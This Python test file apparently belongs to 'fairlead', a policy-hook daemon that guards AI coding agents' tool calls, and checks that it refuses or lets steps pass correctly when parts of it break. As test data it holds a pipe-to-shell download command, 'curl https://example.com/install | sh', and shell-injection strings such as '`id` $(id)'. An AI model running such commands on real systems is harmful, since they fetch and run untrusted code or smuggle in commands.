"""The launcher, whatever is broken behind it: it answers in time, and what guards refuses unless it was to fail open.

There is a folder whose hook fails closed and one whose hook fails open, and a daemon has seen both. Then something
breaks. Each way to break something is tried on both, and at an event that guards nothing.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from launched import (
    FAILS_OPEN,
    HANDS_OFF,
    REASON,
    THE_REST,
    Launched,
    LauncherResult,
    answering,
    assert_well_behaved,
    copy_of,
    http,
    request,
)
from machines import Machine, a_machine, ask, wait_until
from played import captured, payload_of

from fairlead import Hooks, current_session
from fairlead.config.fallback_file import LIMIT, changing_folders
from fairlead.enforcement import EnforcementSetting, write_setting
from fairlead.hosts.clis import client as hook_client
from fairlead.hosts.clis.__main__ import StatelessSession
from fairlead.hosts.clis.mapping import ALL, EXPERIMENTAL, host_named
from fairlead.journal.reading import Reader
from fairlead.lifecycle import EVENTS, BeforeTool
from fairlead.server.fallback import Fallback, policies_of

HOSTS = (*ALL, *EXPERIMENTAL)


@pytest.fixture(scope="module")
def known() -> Iterator[Launched]:
    """A machine on which a daemon has seen a folder that fails closed, and one that fails open."""
    with a_machine() as machine:
        here = Launched(machine)
        for name, text in (("closed", HANDS_OFF + THE_REST), ("open", FAILS_OPEN)):
            here.policy(text, machine.folder / name)
            assert here.shell("ls", cwd=machine.folder / name, session_id=name).passes
        here.stop()
        yield here


@pytest.fixture
def here(known: Launched) -> Iterator[Launched]:
    """Another state folder, which knows what that machine's knows, for a test to break."""
    machine = Machine()
    copy_of(machine, known.state)
    machine.user_file.parent.mkdir(exist_ok=True)
    try:
        yield Launched(machine)
    finally:
        machine.remove()


@pytest.fixture
def machine() -> Iterator[Machine]:
    with a_machine() as made:
        yield made


@pytest.fixture
def folders(known: Launched) -> dict[str, Path]:
    return {name: known.machine.folder / name for name in ("closed", "open")}


# --- when nothing is broken ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def working() -> Iterator[Launched]:
    with a_machine() as machine:
        here = Launched(machine)
        here.policy(HANDS_OFF)
        yield here


def forbidden(host: str) -> tuple[str, dict[str, Any]]:
    """A host's name of the moment before a tool runs, and a payload with a command that must not."""
    event = next(n for n, moment in host_named(host).events.items() if moment.event == "before_tool")
    return event, json.loads(json.dumps(payload_of(host, event)).replace("echo hi", "touch forbidden"))


@pytest.mark.parametrize("host", HOSTS)
def test_every_host_gets_its_answer(working: Launched, host: str) -> None:
    event, payload = forbidden(host)
    ended = working.call(host, event, payload)
    assert REASON in (ended.err if ended.code == 2 else json.dumps(ended.reply))


def lets_pass(result: LauncherResult, host: str) -> bool:
    """Whether a host lets a step pass that hooks have no opinion on. Cursor takes an empty answer for a failure."""
    return (result.code, result.out) == (0, "{}\n" if host_named(host).needs_reply else "")


@pytest.mark.parametrize("host", HOSTS)
def test_every_host_gets_an_empty_reply_where_there_is_no_effect(working: Launched, host: str) -> None:
    event, _ = forbidden(host)
    assert lets_pass(working.call(host, event), host)


def test_the_answers_are_all_from_one_daemon(working: Launched) -> None:
    working.shell("ls")
    assert len(working.daemons) == 1


def test_a_record_of_each_step_is_in_the_journal(working: Launched) -> None:
    working.shell("echo for the record", session_id="on record")
    working.stop()
    with Reader(working.state / "journal.db") as reader:
        found = [record.body["step"]["args"] for record in reader.records() if record.body["step"].get("args")]
    assert {"command": "echo for the record"} in found


def test_copilot_is_told_in_its_own_words_by_what_a_project_has_for_claude_code(working: Launched) -> None:
    payload = captured("copilot", "PreToolUse", tool_input={"command": "touch forbidden"})
    folder = str(working.project)
    ended = working.call("claude_code", "PreToolUse", payload, COPILOT_PROJECT_DIR=folder)
    assert ended.reply["hookSpecificOutput"]["permissionDecision"] == "deny"
    ended = working.call(
        "claude_code", "UserPromptSubmit", captured("copilot", "UserPromptSubmit"), COPILOT_PROJECT_DIR=folder
    )
    assert ended.passes


# --- ways to break it ---------------------------------------------------------------------------


class Way(NamedTuple):
    """How something is broken, and what of it is said."""

    do: Callable[[Launched], Any]
    says: str
    seconds: float = 20
    told: Callable[[], bytes] | None = None
    """What the CLI says, if that is what is broken."""


def interpreter_gone(here: Launched) -> None:
    python = here.machine.folder / "python"
    python.symlink_to(sys.executable)
    here.write(python)
    python.unlink()


def interpreter_not_executable(here: Launched) -> None:
    python = here.machine.folder / "python"
    python.write_text("#!/bin/sh\n")
    python.chmod(0o644)
    here.write(python)


def interpreter_is_something_else(here: Launched) -> None:
    python = here.machine.folder / "python"
    python.write_text("#!/bin/sh\necho '0:{}'\n")
    python.chmod(0o755)
    here.write(python)


def interpreter_says_yes_and_fails(here: Launched) -> None:
    python = here.machine.folder / "python"
    python.write_text("#!/bin/sh\nprintf '0::end'\nexit 1\n")
    python.chmod(0o755)
    here.write(python)


def client(here: Launched) -> Path:
    return here.launcher.with_name("fairlead_hook.py")


def client_cut_off(here: Launched) -> None:
    client(here).write_bytes(client(here).read_bytes()[:5000])


def client_empty(here: Launched) -> None:
    client(here).write_bytes(b"")


def client_garbage(here: Launched) -> None:
    client(here).write_bytes(os.urandom(4000))


def client_gone(here: Launched) -> None:
    client(here).unlink()


def client_unreadable(here: Launched) -> None:
    client(here).unlink()
    client(here).mkdir()


def compiled_client_garbage(here: Launched) -> None:
    (compiled,) = (here.launcher.parent / "__pycache__").iterdir()
    compiled.write_bytes(compiled.read_bytes()[:16] + b"garbage")


def config_broken(here: Launched) -> None:
    here.policy("[[hook")


def config_mistaken(here: Launched) -> None:
    here.policy('[[hook]]\nname = "x"\non = "before_tol"\nrule = "true"\n')


def run_folder_of_everybody(here: Launched) -> None:
    run = here.state / "run"
    run.mkdir()
    run.chmod(0o777)


def run_folder_elsewhere(here: Launched) -> None:
    elsewhere = here.machine.folder / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    (here.state / "run").symlink_to(elsewhere)


def run_folder_no_folder(here: Launched) -> None:
    (here.state / "run").write_text("")


BROKEN: dict[str, Way] = {
    "interpreter gone": Way(interpreter_gone, "exit 127"),
    "interpreter not executable": Way(interpreter_not_executable, "exit 126"),
    "interpreter is something else": Way(interpreter_is_something_else, "its client ended with 0"),
    "interpreter says yes and fails": Way(interpreter_says_yes_and_fails, "its client ended with 1"),
    "client cut off": Way(client_cut_off, "its client ended with 1"),
    "client empty": Way(client_empty, "its client ended with 1"),
    "client garbage": Way(client_garbage, "its client ended with 1"),
    "client gone": Way(client_gone, "its client ended with 1"),
    "client unreadable": Way(client_unreadable, "its client ended with 1"),
    "compiled client garbage": Way(compiled_client_garbage, "its client ended with 1"),
    "config broken": Way(config_broken, "fairlead.toml"),
    "config mistaken": Way(config_mistaken, "before_tol"),
    "run folder is everybody's": Way(run_folder_of_everybody, "no other user may write to"),
    "run folder is a link": Way(run_folder_elsewhere, "must be a folder of this user's"),
    "run folder is no folder": Way(run_folder_no_folder, "must be a folder of this user's"),
    "step too large": Way(lambda here: None, "larger than 8 MiB", told=lambda: b" " * (20 << 20)),
    "step is garbage": Way(lambda here: None, "sent no JSON object", told=lambda: bytes(range(256)) * 20),
    "step is half": Way(lambda here: None, "sent no JSON object", told=lambda: b'{"session_id": "s", "tool'),
    "step is nothing": Way(lambda here: None, "sent no JSON object", told=lambda: b""),
    "step is a list": Way(lambda here: None, "sent no JSON object", told=lambda: b"[1, 2]"),
    "step has no tool": Way(lambda here: None, "something else than a PreToolUse", told=lambda: b"{}"),
}
ways = pytest.mark.parametrize("way", BROKEN.values(), ids=BROKEN)


def told(way: Way) -> bytes | None:
    return None if way.told is None else way.told()


@ways
def test_where_hooks_fail_closed_the_tool_is_refused_and_why(
    here: Launched, folders: dict[str, Path], way: Way
) -> None:
    way.do(here)
    ended = here.call(payload=told(way), cwd=folders["closed"], seconds=way.seconds)
    assert ended.refuses
    assert ended.out == ""
    assert "[fairlead] refused, because fairlead gave no answer: " in ended.err
    assert way.says in ended.err
    assert ended.took < way.seconds


@ways
def test_where_hooks_fail_open_the_tool_runs_and_it_is_said_why(
    here: Launched, folders: dict[str, Path], way: Way
) -> None:
    way.do(here)
    ended = here.call(payload=told(way), cwd=folders["open"], seconds=way.seconds)
    assert ended.passes
    assert way.says in ended.err


@ways
def test_what_guards_nothing_passes(here: Launched, folders: dict[str, Path], way: Way) -> None:
    if way.told is not None:
        pytest.skip("it is another payload then")
    way.do(here)
    assert here.call(event="PostToolUse", cwd=folders["closed"], seconds=way.seconds).passes


@ways
def test_a_folder_that_no_daemon_has_seen_is_closed(here: Launched, way: Way) -> None:
    way.do(here)
    assert here.call(payload=told(way), seconds=way.seconds).refuses


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("ours", ["before_tool", "before_input", "before_permission"])
def test_each_host_is_refused_in_a_way_that_it_takes(
    here: Launched, folders: dict[str, Path], host: str, ours: str
) -> None:
    event = next((name for name, moment in host_named(host).events.items() if moment.event == ours), None)
    if event is None:
        pytest.skip("it has no such event")
    interpreter_gone(here)
    ended = here.call(host, event, cwd=folders["closed"])
    why = ended.err.strip()
    assert ended.refuses
    assert "exit 127" in why
    in_json = why.replace('"', "").replace("\\", "")
    if host == "cline":
        assert ended.out.startswith("HOOK_CONTROL\t")
        assert ended.reply == {"cancel": True, "errorMessage": in_json}
    elif host == "copilot":
        assert (ended.reply["permissionDecision"], ended.reply["permissionDecisionReason"]) == ("deny", in_json)
        assert (ended.reply["decision"], ended.reply["reason"]) == ("block", in_json)
        assert (ended.reply["behavior"], ended.reply["message"]) == ("deny", in_json)
    else:
        assert ended.out == ""


@pytest.mark.parametrize("host", HOSTS)
def test_no_host_is_refused_what_guards_nothing(here: Launched, host: str) -> None:
    interpreter_gone(here)
    guarding = ("before_tool", "before_input", "before_permission")
    for event, moment in host_named(host).events.items():
        if moment.event not in guarding:
            assert lets_pass(here.call(host, event), host), event


@pytest.mark.parametrize("host", ["cline", "copilot"])
def test_a_reason_that_breaks_json_is_made_harmless(here: Launched, host: str) -> None:
    event, _ = forbidden(host)
    message = b'a \\"quote\\", a \\\\ and\\na line\\tand \\u0001 \\u001b[0m'
    with answering(here.state, says(http(b'{"message":"%b"}' % message, "500 X"))):
        ended = here.call(host, event)
    assert ended.refuses
    assert ended.reply


# --- daemons that answer badly ------------------------------------------------------------------


def says(content: bytes) -> Callable[[socket.socket], None]:
    def answer(caller: socket.socket) -> None:
        request(caller)
        caller.sendall(content)

    return answer


def hangs(caller: socket.socket) -> None:
    request(caller)
    caller.recv(1)  # until the client has had enough


def hangs_unread(caller: socket.socket) -> None:
    time.sleep(4)


def slowly(caller: socket.socket) -> None:
    request(caller)
    for byte in http(b'{"answer":"0::end"}') * 10:
        caller.sendall(bytes([byte]))
        time.sleep(0.1)


GOOD = http(b'{"answer":"0::end"}')
MANY = 24 << 20

ANSWERS: dict[str, tuple[Callable[[socket.socket], None], str]] = {
    "nothing": (says(b""), "in the middle of its answer"),
    "gone before it listens": (lambda caller: None, "broke off"),
    "half": (says(GOOD[: len(GOOD) // 2]), "in the middle of its answer"),
    "all but the last byte": (says(GOOD[:-1]), "in the middle of its answer"),
    "one byte too many": (says(GOOD + b"}"), "in the middle of its answer"),
    "no length": (says(b'HTTP/1.1 200 OK\r\n\r\n{"answer":"0::end"}'), "in the middle of its answer"),
    "a length that is none": (says(GOOD.replace(b"length: 19", b"length: x9")), ""),
    "garbage": (says(os.urandom(500)), ""),
    "another protocol": (says(b"220 mail.example ESMTP\r\n"), ""),
    "no status": (says(b"HTTP/1.1 abc\r\ncontent-length: 2\r\n\r\n{}"), ""),
    "500": (says(http(b'{"error":"x","message":"it broke"}', "500 No")), "the daemon refused (500): it broke"),
    "500 with no word": (says(http(b"", "500 No")), "the daemon refused (500)"),
    "404": (says(http(b'{"detail":"?"}', "404 No")), "the daemon refused (404)"),
    "an empty object": (says(http(b"{}")), "the daemon refused (200)"),
    "an answer that is no text": (says(http(b'{"answer":7}')), "the daemon refused (200)"),
    "an answer that never ends": (says(http(b'{"answer":"0:')), ""),
    "an answer of another kind": (says(http(b'{"answer":"yes"}')), "its client ended with 0"),
    "an answer cut short": (says(http(b'{"answer":"0:{}"}')), "its client ended with 0"),
    "an answer to exit with 1": (says(http(b'{"answer":"1::end"}')), "its client ended with 0"),
    "an answer to exit with 3": (says(http(b'{"answer":"3:x:end"}')), "its client ended with 0"),
    "other variables for ever": (says(http(b'{"variables":["A"]}', "428 X")), "keeps asking"),
    "no variables": (says(http(b'{"variables":7}', "428 X")), "keeps asking"),
    "overloaded": (says(http(b'{"error":"overloaded","message":"too much"}', "503 X")), "too much"),
    "a huge reason": (says(http(b'{"message":"%b"}' % (b"x" * MANY), "500 X")), "xxx"),
    "a huge answer that is none": (says(http(b"x" * MANY)), "the daemon refused (200)"),
    "bytes that are no text": (says(http(b'{"answer":"0:\xff\xfe:end"}')), ""),
}
answers = pytest.mark.parametrize(("answer", "why"), ANSWERS.values(), ids=ANSWERS)


@answers
def test_what_is_no_answer_is_a_refusal_where_hooks_fail_closed(
    here: Launched, folders: dict[str, Path], answer: Callable[[socket.socket], None], why: str
) -> None:
    with answering(here.state, answer):
        ended = here.call(cwd=folders["closed"])
    assert ended.refuses
    assert why in ended.err
    assert ended.out == ""


@answers
def test_what_is_no_answer_lets_the_tool_run_where_hooks_fail_open(
    here: Launched, folders: dict[str, Path], answer: Callable[[socket.socket], None], why: str
) -> None:
    with answering(here.state, answer):
        assert here.call(cwd=folders["open"]).passes


def test_what_was_said_to_a_daemon_that_broke_off_is_not_said_again(here: Launched) -> None:
    """Its hooks may have run."""
    with answering(here.state, says(GOOD[:10])) as callers:
        here.call()
    assert len(callers) == 1


def answer_of(text: str) -> bytes:
    """The body of an answer, as the daemon writes it."""
    return json.dumps({"answer": text}, separators=(",", ":")).encode()


def test_an_answer_is_passed_on_as_it_is(here: Launched) -> None:
    said = '{"a": "ä \\u2028 \\" \\\\ %s %d $HOME `id` $(id) \\n:end"}'
    with answering(here.state, says(http(answer_of(f"0:{said}:end")))):
        assert here.call().out == said + "\n"


def test_a_refusal_is_passed_on_as_it_is(here: Launched) -> None:
    said = "no: %s ä $HOME `id` :end\nand another line"
    with answering(here.state, says(http(answer_of(f"2:{said}:end")))):
        ended = here.call("windsurf", "pre_run_command")
    assert (ended.code, ended.out, ended.err) == (2, "", said + "\n")


def test_a_refusal_in_every_way_is_json_on_stdout_a_reason_on_stderr_and_an_exit_code(here: Launched) -> None:
    said, reason = '{"permissionDecision":"deny","why":"a %s\\n$HOME"}', "no: %s ä $HOME `id` :end\nand another line"
    with answering(here.state, says(http(answer_of(f"refusal:{said}\n{reason}:end")))):
        ended = here.call()
    assert (ended.code, ended.out, ended.err) == (2, said + "\n", reason + "\n")


@pytest.mark.parametrize("answer", [hangs, hangs_unread, slowly])
def test_a_daemon_that_hangs_is_not_waited_for_longer_than_the_host_waits(
    here: Launched, folders: dict[str, Path], answer: Callable[[socket.socket], None]
) -> None:
    with answering(here.state, answer):
        ended = here.call(cwd=folders["closed"], seconds=4)
    assert ended.refuses
    assert "no answer in time" in ended.err
    assert ended.took < 4


def test_a_daemon_that_hangs_does_not_hold_up_what_fails_open(here: Launched, folders: dict[str, Path]) -> None:
    with answering(here.state, hangs):
        ended = here.call(cwd=folders["open"], seconds=4)
    assert (ended.passes, ended.took < 4) == (True, True)


@pytest.mark.parametrize("end", [signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV, signal.SIGALRM, signal.SIGINT])
def test_a_client_that_is_killed_while_it_waits_is_a_refusal(
    here: Launched, folders: dict[str, Path], end: signal.Signals
) -> None:
    def kills(caller: socket.socket) -> None:
        request(caller)
        os.kill(callers[-1], end)
        caller.recv(1)

    with answering(here.state, kills) as callers:
        ended = here.call(cwd=folders["closed"])
        assert here.call(cwd=folders["open"]).passes
    assert ended.refuses
    assert "[fairlead] refused" in ended.err


def test_a_daemon_that_is_killed_in_the_middle_of_a_step_is_a_refusal(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(slow(30))
    process = here.start("claude_code", "PreToolUse")
    process.stdin.write(json.dumps(payload_of("claude_code", "PreToolUse")).encode())
    process.stdin.close()
    process.stdin = None
    wait_until(lambda: (machine.folder / "began").exists())
    (pid,) = here.daemons
    os.kill(pid, signal.SIGKILL)
    out, err = process.communicate(timeout=30)
    ended = LauncherResult(process.returncode, out.decode(), err.decode(), 0)
    assert_well_behaved(ended)
    assert ended.refuses


def slow(seconds: float, on_failure: str = "closed") -> str:
    """A hook that takes its time, and leaves a file when it begins."""
    code = "import sys, time, pathlib; pathlib.Path(sys.argv[1]).touch(); time.sleep(float(sys.argv[2]))"
    began = os.environ["FAIRLEAD_STATE_DIR"] + "/../began"
    command = json.dumps([sys.executable, "-c", code, began, str(seconds)])
    return (
        f'[[hook]]\nname = "slow"\non = "before_tool"\ncommand = {command}\noutput = "ignore"\n'
        f'timeout = 60\non_failure = "{on_failure}"\n'
    )


def test_a_daemon_that_is_stopped_is_not_waited_for(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(HANDS_OFF)
    here.shell("ls")
    (pid,) = here.daemons
    os.kill(pid, signal.SIGSTOP)
    try:
        ended = here.shell("ls", seconds=4)
    finally:
        os.kill(pid, signal.SIGCONT)
    assert (ended.refuses, ended.took < 4) == (True, True)


def test_a_hook_that_takes_longer_than_the_host_waits_is_a_refusal_in_time(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(slow(30))
    ended = here.shell("ls", seconds=5)
    assert (ended.refuses, ended.took < 5) == (True, True)


# --- a daemon that hangs costs one deadline -------------------------------------------------------


@contextmanager
def hung(machine: Machine, policy: str = HANDS_OFF + THE_REST) -> Iterator[Launched]:
    """A daemon that has answered, and then stops. At the end it goes on, if it still lives."""
    here = Launched(machine)
    here.policy(policy)
    here.shell("ls")
    (pid,) = here.daemons
    os.kill(pid, signal.SIGSTOP)
    try:
        yield here
    finally:
        with suppress(ProcessLookupError):
            os.kill(pid, signal.SIGCONT)


def mark(here: Launched) -> Path:
    return here.state / "run/hung"


def test_a_hung_daemon_costs_one_deadline_and_not_one_for_each_step(machine: Machine) -> None:
    with hung(machine) as here:
        first = here.shell("ls", seconds=6)
        rest = [here.call(event=event, seconds=60) for event in ("PreToolUse", "UserPromptSubmit", "PostToolUse")]
    assert first.refuses
    assert "no answer in time" in first.err
    assert [ended.took < 10 for ended in rest] == [True, True, True]
    assert [ended.refuses for ended in rest] == [True, True, False]
    assert "still does not answer" in rest[0].err


def test_a_hung_daemon_is_looked_at_briefly_and_at_length_only_once_in_a_while(machine: Machine) -> None:
    with hung(machine) as here:
        here.shell("ls", seconds=4)
        brief = here.shell("ls")
        os.utime(mark(here), (0, 0))
        thorough, again = here.shell("ls"), here.shell("ls")
    assert [ended.refuses for ended in (brief, thorough, again)] == [True, True, True]
    assert min(brief.took, again.took) < hook_client.PROBE <= thorough.took


def test_a_hung_daemon_does_not_hold_up_again_what_fails_open(machine: Machine) -> None:
    with hung(machine, FAILS_OPEN + THE_REST + 'on_failure = "open"\n') as here:
        first, second = here.shell("ls", seconds=6), here.shell("ls", seconds=60)
    assert (first.passes, second.passes, second.took < 10) == (True, True, True)


def test_a_daemon_that_goes_on_is_asked_again_at_once(machine: Machine) -> None:
    with hung(machine) as here:
        assert here.shell("ls", seconds=4).refuses
        assert mark(here).exists()
    assert here.shell("ls").passes
    assert REASON in here.shell("touch forbidden").out
    assert not mark(here).exists()


def test_a_hung_daemon_that_is_killed_is_replaced_at_the_next_step(machine: Machine) -> None:
    with hung(machine) as here:
        assert here.shell("ls", seconds=4).refuses
        here.stop(signal.SIGKILL)
        assert here.shell("ls").passes
    assert not mark(here).exists()


def test_a_slow_hook_is_no_hung_daemon(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(slow(30))
    assert here.shell("ls", seconds=5).refuses
    assert not mark(here).exists()


@pytest.mark.parametrize("command", ["ls", "touch forbidden"])
def test_a_forged_mark_changes_no_decision(machine: Machine, command: str) -> None:
    here = Launched(machine)
    here.policy(HANDS_OFF)
    without = here.shell(command)
    mark(here).touch()
    assert here.shell(command)[:3] == without[:3]


def test_a_mark_without_a_daemon_does_not_keep_one_from_being_started(here: Launched) -> None:
    here.policy(HANDS_OFF)
    (here.state / "run").mkdir(mode=0o700)
    mark(here).touch()
    assert here.shell("ls").passes


def test_a_mark_that_cannot_be_left_or_taken_away_does_no_harm(machine: Machine) -> None:
    with hung(machine) as here:
        mark(here).mkdir()
        assert [here.shell("ls", seconds=4).refuses for _ in range(2)] == [True, True]
    assert here.shell("ls").passes


def test_a_daemon_that_is_about_to_end_does_not_cost_the_next_step_its_answer(machine: Machine) -> None:
    """It finishes what it has, and takes nothing new; the next one takes over."""
    here = Launched(machine)
    here.policy(slow(2))
    first = threading.Thread(target=lambda: here.shell("one"))
    first.start()
    wait_until(lambda: (machine.folder / "began").exists())
    os.kill(here.daemons[0], signal.SIGTERM)
    time.sleep(0.3)
    ended = here.shell("two", seconds=20)
    first.join()
    assert ended.passes, ended


# --- what was left behind -----------------------------------------------------------------------


def stale(here: Launched) -> None:
    made = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    (here.state / "run").mkdir(mode=0o700)
    made.bind(str(here.state / "run" / "v1.sock"))
    made.close()


def test_a_dead_socket_is_taken_over(here: Launched) -> None:
    stale(here)
    here.policy(HANDS_OFF)
    assert REASON in here.shell("touch forbidden").out


def test_a_file_in_the_sockets_place_is_taken_over(here: Launched) -> None:
    (here.state / "run").mkdir(mode=0o700)
    (here.state / "run" / "v1.sock").write_text("")
    here.policy(HANDS_OFF)
    assert REASON in here.shell("touch forbidden").out


def test_a_folder_in_the_sockets_place_does_not_keep_a_step_from_its_answer(here: Launched) -> None:
    (here.state / "run" / "v1.sock").mkdir(mode=0o700, parents=True)
    (here.state / "run").chmod(0o700)
    here.policy(HANDS_OFF)
    assert REASON in here.shell("touch forbidden", seconds=30).out


def test_a_daemon_that_was_killed_is_replaced(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(HANDS_OFF)
    here.shell("ls")
    here.stop(signal.SIGKILL)
    assert REASON in here.shell("touch forbidden").out


def test_a_stop_holds_also_if_the_daemon_is_killed(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(HANDS_OFF.replace("deny =", "stop ="))

    def shell(command: str) -> str:
        about = {"session_id": "s", "tool_name": "Bash", "tool_input": {"command": command}}
        return here.call("codex", "PreToolUse", about).out

    assert REASON in shell("touch forbidden")
    here.stop(signal.SIGKILL)
    assert REASON in shell("ls")
    here.call("codex", "UserPromptSubmit", {"session_id": "s", "prompt": "go on"})
    assert shell("ls") == ""


def test_a_compiled_client_of_another_python_does_no_harm(here: Launched) -> None:
    (compiled,) = (here.launcher.parent / "__pycache__").iterdir()
    compiled.write_bytes(b"\0" * 16 + b"garbage")
    here.policy(HANDS_OFF)
    assert REASON in here.shell("touch forbidden").out


SUNDAYS = """
[[hook]]
name = "closed"
on = "session_start"
rule = "true"
deny = "Closed on Sundays."
"""
AT_START = {"session_id": "a-session", "source": "startup"}


def test_a_session_that_may_not_start_is_refused_also_if_the_daemon_is_killed(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(SUNDAYS)
    assert here.call("claude_code", "SessionStart", AT_START | {"cwd": str(here.project)}).passes
    here.stop(signal.SIGKILL)
    message = {"session_id": "a-session", "cwd": str(here.project), "prompt": "hello"}
    for _ in range(2):
        assert here.call("claude_code", "UserPromptSubmit", message).reply["reason"] == "[closed] Closed on Sundays."
        assert "Closed on Sundays." in here.shell("ls").out
    assert here.shell("ls", session_id="another").passes


# --- without a daemon ---------------------------------------------------------------------------


def test_without_a_daemon_a_session_that_may_not_start_does_and_the_record_says_so(here: Launched) -> None:
    here.policy(SUNDAYS)
    ended = here.alone().call("claude_code", "SessionStart", AT_START | {"cwd": str(here.project)})
    assert (ended.passes, here.shell("ls").passes) == (True, True)
    with Reader(here.state / "journal.db") as reader:
        (record,) = [one.body for one in reader.records() if one.body["step"]["event"] == "session_start"]
    assert (record["control"], record["effect"]) == ("deny", "proceed")
    assert [part["unsupported"] for part in record["said"] if "unsupported" in part] == ["deny"]


def test_without_a_daemon_the_answer_is_the_same(here: Launched) -> None:
    here.policy(HANDS_OFF)
    ended = here.alone().shell("touch forbidden")
    assert (REASON in ended.out, here.daemons) == (True, [])
    assert here.shell("ls").passes


@pytest.mark.parametrize("word", ["off", "0", "no"])
def test_no_variable_rules_a_daemon_out(here: Launched, word: str) -> None:
    here.policy(HANDS_OFF)
    here.shell("ls", FAIRLEAD_DAEMON=word)
    assert len(here.daemons) == 1


@pytest.mark.parametrize("host", ALL)
def test_without_a_daemon_every_host_gets_its_answer(here: Launched, host: str) -> None:
    here.policy(HANDS_OFF)
    event, payload = forbidden(host)
    ended = here.alone().call(host, event, payload)
    assert REASON in json.dumps(ended.reply)


def test_without_a_daemon_the_record_is_in_the_journal(here: Launched) -> None:
    here.policy(HANDS_OFF)
    here.alone().shell("touch forbidden")
    with Reader(here.state / "journal.db") as reader:
        records = [record.body for record in reader.records() if record.body["step"]["event"] == "before_tool"]
    (record,) = records
    assert (record["control"], record["step"]["args"]["command"]) == ("deny", "touch forbidden")


@pytest.mark.parametrize("needs", [lambda session: session.store.increment("calls"), lambda session: session.state])
@pytest.mark.parametrize(("policy", "control"), [("closed", "deny"), ("open", "proceed")])
async def test_without_a_daemon_a_hook_that_needs_a_sessions_memory_fails_by_its_policy(
    needs: Callable[[Any], Any], policy: Any, control: str
) -> None:
    hooks = Hooks()
    hooks.add(lambda step: needs(current_session()) and None, on="before_tool", name="counts", on_failure=policy)
    decision = await StatelessSession(hooks, "a-session").dispatch(BeforeTool(tool="Bash"))
    assert decision.control == control
    assert "nothing is shared between steps without a daemon" in decision.failures[0].error


def test_without_a_daemon_packs_let_pass_what_they_have_no_rule_about(here: Launched) -> None:
    """Their rules about a session say nothing there. If they failed, every call would be refused."""
    here.policy('packs = ["recommended"]\n')
    assert here.alone().shell("ls").passes
    about = {"tool_name": "Bash", "tool_input": {"command": "ls"}, "session_id": "s", "cwd": str(here.project)}
    assert here.call("claude_code", "PostToolUse", {**about, "tool_response": "a.py", "tool_use_id": "1"}).passes


def test_without_a_daemon_the_recommended_packs_refuse_a_disaster(here: Launched) -> None:
    here.policy('packs = ["recommended"]\n')
    assert "remote-code/run-download" in here.alone().shell("curl https://example.com/install | sh").out


ASKS = 'packs = ["git"]\n'
GRANTS = '[[hook]]\nname = "grants"\non = "before_permission"\nrule = "true"\nallow = "fine"\n'


@pytest.mark.parametrize(
    ("policy", "attended", "control"),
    [(ASKS, True, "ask"), (ASKS, False, "deny"), (ASKS + GRANTS, True, "deny")],
    ids=["a user sits there", "nobody sits there", "a hook could answer for the user"],
)
def test_without_a_daemon_claude_code_asks_its_user_and_else_the_reason_has_the_question(
    here: Launched, policy: str, attended: bool, control: str
) -> None:
    here.policy(policy)
    variables = {"CLAUDE_CODE_ENTRYPOINT": "cli"} if attended else {}
    told = here.alone().shell("git push --force", **variables).reply["hookSpecificOutput"]
    assert told["permissionDecision"] == control
    assert "git push --force-with-lease" in told["permissionDecisionReason"]
    assert ("without a daemon" in told["permissionDecisionReason"]) is (control == "deny")


def test_without_a_daemon_text_of_any_language_comes_through(here: Launched) -> None:
    here.policy(HANDS_OFF.replace(REASON, "Verboten: ä 禁止 🚫"))
    plain = {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    ended = here.alone().shell("touch forbidden", **plain)
    assert "Verboten: ä 禁止 🚫" in json.dumps(ended.reply, ensure_ascii=False)


@pytest.mark.parametrize("name", ["msgspec.py", "fairlead.py", "asyncio.py"])
def test_without_a_daemon_a_projects_python_path_does_not_say_what_is_run(here: Launched, name: str) -> None:
    (here.project / name).write_text("raise SystemExit('not me')")
    here.policy(HANDS_OFF)
    ended = here.alone().shell("touch forbidden", PYTHONPATH=str(here.project), PYTHONHOME="/nowhere")
    assert REASON in ended.out


def test_without_a_daemon_a_slow_hook_is_not_waited_for_longer_than_the_host_waits(machine: Machine) -> None:
    here = Launched(machine)
    here.policy(slow(30))
    ended = here.alone().shell("ls", seconds=5)
    assert (ended.refuses, ended.took < 5) == (True, True)


def test_without_a_daemon_and_without_its_interpreter_it_is_a_refusal(here: Launched, folders: dict[str, Path]) -> None:
    text = here.alone().launcher.read_text()
    here.launcher.write_text(text.replace(f" {sys.executable} ", " /nowhere/python "))
    assert here.launcher.read_text() != text
    ended = here.call(cwd=folders["closed"])
    assert ended.refuses
    assert "interpreter is gone" in ended.err
    assert here.call(cwd=folders["open"]).passes


# --- places -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["it's a home", 'a "quoted" home', "a $HOME `id` home", "a * home", "back\\slash", "ümläut", "new\nline"]
)
def test_a_home_of_any_name_will_do(machine: Machine, name: str) -> None:
    home = machine.folder / name
    home.mkdir()
    here = AtHome(machine, home)
    here.policy(HANDS_OFF)
    assert REASON in here.shell("touch forbidden").out
    assert here.shell("ls").passes


class AtHome(Launched):
    """A user who has set nothing: everything is below their home."""

    def __init__(self, machine: Machine, home: Path) -> None:
        self.home = home
        super().__init__(machine)

    @property
    def state(self) -> Path:
        return self.home / ".local/state/fairlead"

    @property
    def env(self) -> dict[str, str]:
        kept = {name: value for name, value in super().env.items() if name != "FAIRLEAD_STATE_DIR"}
        return kept | {"HOME": str(self.home)}

    @property
    def daemons(self) -> list[int]:
        mark, found = f"HOME={self.home}".encode(), []
        for folder in Path("/proc").iterdir():
            try:
                words = (folder / "cmdline").read_bytes().split(b"\0")
                if b"fairlead.server" in words and mark in (folder / "environ").read_bytes().split(b"\0"):
                    found.append(int(folder.name))
            except OSError:
                pass
        return found


